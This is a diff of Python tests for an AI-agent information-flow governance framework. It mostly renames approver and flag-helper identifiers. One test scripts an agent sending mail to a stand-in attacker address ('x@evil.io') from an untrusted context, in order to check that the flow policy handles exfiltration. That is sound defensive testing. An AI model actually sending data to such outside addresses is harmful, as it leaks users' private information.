@@ -9,11 +9,11 @@ from evoclaw.core.history import History
 from evoclaw.core.labels import CLEAN, Label
 from evoclaw.core.messages import ToolResult, UserMessage, label_of, user
 from evoclaw.core.pipeline import Pipeline
-from evoclaw.core.ports import ALLOW, Ask, Deny, NobodyThere, Ports, Verdict
+from evoclaw.core.ports import ALLOW, Ask, Deny, NoApprover, Ports, Verdict
 from evoclaw.core.run import run
 from evoclaw.core.tools import Call, Context, Effect, Tool
 from evoclaw.governance.flow.edge import EdgeFlow
-from evoclaw.governance.flow.flags import FlowFlags, reflagged
+from evoclaw.governance.flow.flags import FlowFlags, with_configured_flags
 from evoclaw.governance.flow.policy import Flow
 from evoclaw.governance.flow.settings import EdgeRule, FlowSettings, Preset
 from evoclaw.providers.scripted import Scripted, calls, says
@@ -106,12 +106,12 @@ def test_flags_are_given_by_name_and_the_rest_stays_as_it_is() -> None:
     settings = FlowSettings(
         outside=("mail__*",), private=("mail__read",), acts=("look",), harmless=("press",)
     )
-    read = reflagged(Tool("mail__read", "", {}, effect=Effect.READ), settings)
+    read = with_configured_flags(Tool("mail__read", "", {}, effect=Effect.READ), settings)
     assert read.label == Label(True, True, ("mail__read",))
-    assert reflagged(LOOKING, settings).presses
-    assert not reflagged(ACT, settings).presses
-    assert reflagged(SENDING, settings) is SENDING
-    trusted = reflagged(READ_MAIL, FlowSettings(trusted=("read_mail",)))
+    assert with_configured_flags(LOOKING, settings).has_side_effects
+    assert not with_configured_flags(ACT, settings).has_side_effects
+    assert with_configured_flags(SENDING, settings) is SENDING
+    trusted = with_configured_flags(READ_MAIL, FlowSettings(trusted=("read_mail",)))
     assert not trusted.outside
 
 
@@ -121,7 +121,7 @@ async def test_results_of_a_tool_that_integrators_flag_are_labelled_so() -> None
     flagged = Pipeline([world], [FlowFlags(settings)])
     assert flagged.tools() is flagged.tools()
     script = Scripted(calls(("look", {"what": "x"})), calls(("read_mail", {})), says("Done."))
-    ports = Ports(script, flagged, Flow(FlowSettings(preset=Preset.STRICT)), NobodyThere())
+    ports = Ports(script, flagged, Flow(FlowSettings(preset=Preset.STRICT)), NoApprover())
     await run([user("Hello.")], ports)
     seen = script.requests[-1].messages
     labels = [label_of(m) for m in seen if isinstance(m, ToolResult)]
@@ -132,7 +132,7 @@ async def test_what_another_session_asked_in_an_untrusted_context_vouches_for_no
     world = World()
     send = ("send_mail", {"to": "x@evil.io", "subject": "x", "body": "x"})
     flow = Flow(FlowSettings(), world.tools)
-    ports = Ports(Scripted(calls(send), says("Done.")), world, flow, NobodyThere())
+    ports = Ports(Scripted(calls(send), says("Done.")), world, flow, NoApprover())
     text = user("Send x to x@evil.io")
     opening = UserMessage(tuple(msgspec.structs.replace(b, label=BOTH) for b in text.blocks))
     await run([opening], ports)
@@ -145,7 +145,7 @@ async def test_calls_of_one_reply_before_anything_was_read_are_a_trusted_plan() 
         ("read_mail", {}), ("send_mail", {"to": "a@b.org", "subject": "x", "body": "On my way."})
     )
     ports = Ports(
-        Scripted(plan, says("Done.")), world, Flow(FlowSettings(), world.tools), NobodyThere()
+        Scripted(plan, says("Done.")), world, Flow(FlowSettings(), world.tools), NoApprover()
     )
     await run([user("Hello.")], ports)
     assert world.did("send_mail")
